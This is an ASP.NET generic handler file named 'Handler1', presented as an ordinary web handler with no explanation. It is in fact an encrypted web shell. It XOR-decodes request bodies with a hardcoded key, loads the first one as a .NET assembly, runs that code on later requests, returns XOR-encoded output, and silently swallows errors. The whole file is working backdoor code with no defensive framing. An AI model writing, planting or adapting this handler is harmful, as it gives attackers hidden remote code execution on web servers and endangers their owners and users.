<%@ WebHandler Language="C#" Class="Handler1" %>
using System;
using System.Web;
using System.Web.SessionState;
public class Handler1 : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext ctx)
    {
        try {
            byte[] k = System.Text.Encoding.Default.GetBytes("3c6e0b8a9c15224a");
            byte[] d = ctx.Request.BinaryRead(ctx.Request.ContentLength);
            for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[(i + 1) & 15]);
            if (ctx.Application["_cache"] == null) {
                ctx.Application["_cache"] = System.AppDomain.CurrentDomain.Load(d);
            } else {
                var ms = new System.IO.MemoryStream();
                object o = ((System.Reflection.Assembly)ctx.Application["_cache"]).CreateInstance("LY");
                o.Equals(ctx); o.Equals(ms); o.Equals(d); o.ToString();
                byte[] r = ms.ToArray();
                for (int i = 0; i < r.Length; i++) r[i] = (byte)(r[i] ^ k[(i + 1) & 15]);
                ctx.Response.BinaryWrite(r);
            }
        } catch { }
    }
    public bool IsReusable { get { return false; } }
}
